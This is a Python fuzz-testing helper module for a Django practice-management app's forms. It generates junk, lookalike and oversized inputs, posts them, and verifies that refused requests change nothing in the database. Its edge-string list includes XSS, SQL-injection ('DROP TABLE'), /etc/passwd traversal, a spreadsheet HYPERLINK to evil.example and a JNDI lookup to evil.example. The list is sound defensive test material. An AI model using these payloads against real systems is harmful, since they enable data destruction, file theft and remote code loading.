"""What the form fuzz tests send, how they send it, and what "nothing changed" compares.

Everything here speaks HTTP and models only (URLs, field names, rows), never the app's views,
forms or services, so the tests survive those modules moving.
"""

import traceback
from collections import Counter
from dataclasses import dataclass, field
from datetime import date

from django.test import Client
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from accounts.models import Invitation, LoginWindow, PasswordHistory, User, UserSession
from practice.models import AuditEvent, OfficeNetwork, Practice, Provider

# Reproducible in CI (derandomize: the same examples on every run, no example database) and
# quick: a few dozen requests a form. Function-scoped fixtures are fine here: every example
# takes its own snapshot of the database and its own client.
FUZZ = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)

MEGABYTE = 1_000_000

# Text that broke, or nearly broke, something somewhere once.
EDGE_STRINGS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "\n",
    "\t",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028",
    "\ufeff",
    "\u202e",
    "\u200b",
    "0",
    "-1",
    "-0",
    "1e309",
    "NaN",
    "inf",
    "0x10",
    "2147483648",
    "32768",
    "65536",
    "99999999999999999999",
    "-9223372036854775809",
    "9999-12-31",
    "0001-01-01",
    "10000-01-01",
    "2024-02-30",
    "0000-00-00",
    "1970-01-01",
    "12/31/9999",
    "24:00",
    "23:60",
    "-1:00",
    "7:5",
    "on",
    "off",
    "true",
    "None",
    "null",
    "[]",
    "{}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1",
    "'; DROP TABLE accounts_user; --",
    "%00",
    "%0d%0a",
    "../../../etc/passwd",
    '=HYPERLINK("http://evil.example")',
    "{{ 7|add:7 }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
]

# Characters that look like others: a username, a code or a practice code typed with them
# must never be taken for the real one.
LOOKALIKES = [
    "n\u0456na",  # Cyrillic i
    "\uff4e\uff49\uff4e\uff41",  # fullwidth "nina"
    "n\u0131na",  # dotless i
    "N\u0130NA",  # capital I with a dot
    "nina\u200b",  # a zero-width space after it
    "v\u0430lley",  # Cyrillic a
    "VALLEY\u0307",  # a combining dot
    "Correct-Horse-9\uff01",  # fullwidth exclamation mark
    "\u03f9orrect-Horse-9!",  # Greek lunate sigma for C
    "\uff11\uff12\uff13\uff14\uff15\uff16",  # fullwidth digits
    "\u0661\u0662\u0663\u0664\u0665\u0666",  # Arabic-Indic digits
    "\u212a",  # Kelvin sign (lower-cases to k)
    "stra\u00dfe",
    "\ufb00",  # ff ligature
]

EXTRA_FIELD_NAMES = [
    "is_staff",
    "is_superuser",
    "is_active",
    "practice",
    "practice_id",
    "role",
    "password",
    "failed_logins",
    "locked_at",
    "must_change_password",
    "remote_access",
    "id",
    "pk",
    "user",
    "username",
    "email",
    "code",
    "action",
    "next",
    "csrfmiddlewaretoken",
]


def utf8_text(*, min_size: int = 0, max_size: int = 40) -> st.SearchStrategy[str]:
    # No lone surrogates: a browser cannot send them (they do not encode to UTF-8).
    return st.text(st.characters(codec="utf-8"), min_size=min_size, max_size=max_size)


CONTROL_TEXT = st.text(
    st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp", "Zs"]),
    min_size=1,
    max_size=12,
)

# Up to a megabyte, of one repeated piece: cheap to make, expensive for a careless server.
LONG_TEXT = st.builds(
    lambda unit, length: (unit * length)[:length],
    st.sampled_from(["a", "Z9!x", "\u00e9", "\u0430", " ", "\x00", "\r\n", "\U0001f642", "<"]),
    st.integers(min_value=151, max_value=MEGABYTE),
)

NUMBERS = st.one_of(
    st.integers(min_value=-(10**25), max_value=10**25).map(str),
    st.floats().map(repr),
)

DATES = st.one_of(
    st.sampled_from(["9999-12-31", "0001-01-01", "9999-12-30", "0001-01-02"]),
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
)

JUNK = st.one_of(
    utf8_text(),
    CONTROL_TEXT,
    st.sampled_from(EDGE_STRINGS),
    st.sampled_from(LOOKALIKES),
    NUMBERS,
    DATES,
    LONG_TEXT,
)


def plausible_values(plausible) -> st.SearchStrategy:
    """A field's plausible values: a strategy, or a list whose first value is a good one (drawn
    half the time, so that many posts get past the form to the checks behind it)."""
    if isinstance(plausible, st.SearchStrategy):
        return plausible
    values = list(plausible)
    return st.one_of(st.just(values[0]), st.sampled_from(values))


def value(plausible) -> st.SearchStrategy:
    """One fuzzed field's value: plausible or junk, now and then several values at once."""
    one = st.one_of(plausible_values(plausible), JUNK)
    return st.one_of(one, one, one, st.lists(one, min_size=2, max_size=3))


@st.composite
def form_posts(draw, fields: dict, *, extras: bool = True) -> dict:
    """A form's fields: some fuzzed (`value`), the rest plausible; now and then some left out
    and unknown ones added. Mostly-plausible posts get past the first check to the deeper ones.
    """
    names = sorted(fields)
    fuzzed = draw(st.sets(st.sampled_from(names), max_size=len(names)))
    missing: set[str] = set()
    # A middle value of the range: Hypothesis favours the ends of a range (0, max) on purpose.
    if draw(st.integers(min_value=0, max_value=9)) == 7:
        missing = draw(st.sets(st.sampled_from(names), min_size=1, max_size=3))
    data = {}
    for name in names:
        if name in missing:
            continue
        strategy = value(fields[name]) if name in fuzzed else plausible_values(fields[name])
        data[name] = draw(strategy)
    if extras and draw(st.integers(min_value=0, max_value=5)) == 3:
        added = draw(
            st.dictionaries(
                st.one_of(st.sampled_from(EXTRA_FIELD_NAMES), utf8_text(min_size=1, max_size=20)),
                value(JUNK),
                min_size=1,
                max_size=4,
            )
        )
        for name, extra in added.items():
            if name not in fields:
                data[name] = extra
    return data


def last(raw):
    """What the server reads for a field: the last of several values, as QueryDict.get does."""
    if isinstance(raw, list):
        return raw[-1] if raw else None
    return raw


def visitor() -> Client:
    """A new test client whose server errors come back as 500 responses, not as exceptions."""
    return Client(raise_request_exception=False)


def server_error(response) -> str:
    """Why the response counts as a server error ("" when it does not).

    A streamed body (the CSV export) is read to the end: an error while streaming would cut a
    200 response short, which is a server error too.
    """
    if response.streaming:
        try:
            b"".join(response.streaming_content)
        except Exception as exc:  # noqa: BLE001 - any exception while streaming is the finding
            return "".join(traceback.format_exception(exc))[-3000:]
    if response.status_code < 500:
        return ""
    exc_info = getattr(response, "exc_info", None)
    detail = "".join(traceback.format_exception(*exc_info))[-3000:] if exc_info else ""
    return f"{response.status_code}\n{detail}"


def send(client: Client, method: str, path: str, data=None, **extra):
    """GET or POST like a browser; fails the test on any server error."""
    response = getattr(client, method)(path, data if data is not None else {}, **extra)
    problem = server_error(response)
    assert not problem, f"{method.upper()} {path[:200]} answered a server error:\n{problem}"
    return response


# --- "Nothing changed" ------------------------------------------------------------------------


def db_state() -> dict:
    """Every row a form could change (the test database is small), and the audit log by action."""
    return {
        "users": {row["id"]: row for row in User.objects.order_by("id").values()},
        "practices": {row["id"]: row for row in Practice.objects.order_by("id").values()},
        "office networks": list(OfficeNetwork.objects.order_by("id").values()),
        "providers": list(Provider.objects.order_by("id").values()),
        "login windows": list(LoginWindow.objects.order_by("id").values()),
        "invitations": list(Invitation.objects.order_by("id").values()),
        "password history": list(PasswordHistory.objects.order_by("id").values_list("id")),
        "sessions": list(
            UserSession.objects.order_by("id").values("id", "user_id", "ended_at", "end_reason")
        ),
        "audit": Counter(AuditEvent.objects.values_list("action", flat=True)),
    }


@dataclass(frozen=True)
class Allowed:
    """What a refused request may still change: the bookkeeping of a wrong password or code."""

    user_fields: frozenset = field(default_factory=frozenset)
    actions: frozenset = field(default_factory=frozenset)
    sessions_may_end: bool = False


NOTHING = Allowed()
# A wrong password or code counts towards lockout (and may lock, which ends the sessions and
# emails the administrators); that is what must happen, not a change the request made.
LOCKOUT = Allowed(
    user_fields=frozenset({"failed_logins", "locked_at"}),
    actions=frozenset({"signin.failed", "user.locked", "sessions.ended"}),
    sessions_may_end=True,
)


def differences(before: dict, after: dict, allowed: Allowed = NOTHING) -> dict:
    """What changed between two db_state() snapshots, beyond what `allowed` permits."""
    found = {}
    for key in ("practices", "office networks", "providers", "login windows", "invitations"):
        if before[key] != after[key]:
            found[key] = (before[key], after[key])
    if before["password history"] != after["password history"]:
        found["password history"] = "rows added or removed"
    if before["users"].keys() != after["users"].keys():
        found["users"] = sorted(set(before["users"]) ^ set(after["users"]))
    for pk in before["users"].keys() & after["users"].keys():
        old, new = before["users"][pk], after["users"][pk]
        changed = {
            name: (old[name], new[name])
            for name in old
            if old[name] != new[name] and name not in allowed.user_fields
        }
        if changed:
            found[f"user {pk}"] = changed
    sessions_before, sessions_after = before["sessions"], after["sessions"]
    if allowed.sessions_may_end:
        sessions_before = [row["id"] for row in sessions_before]
        sessions_after = [row["id"] for row in sessions_after]
    if sessions_before != sessions_after:
        found["sessions"] = (sessions_before, sessions_after)
    audit = Counter(after["audit"])
    audit.subtract(before["audit"])
    audit = {action: n for action, n in audit.items() if n and action not in allowed.actions}
    if audit:
        found["audit events"] = audit
    return found


def assert_unchanged(before: dict, allowed: Allowed = NOTHING, *, what: str = "") -> None:
    found = differences(before, db_state(), allowed)
    assert not found, f"a refused request changed the database ({what}): {found}"
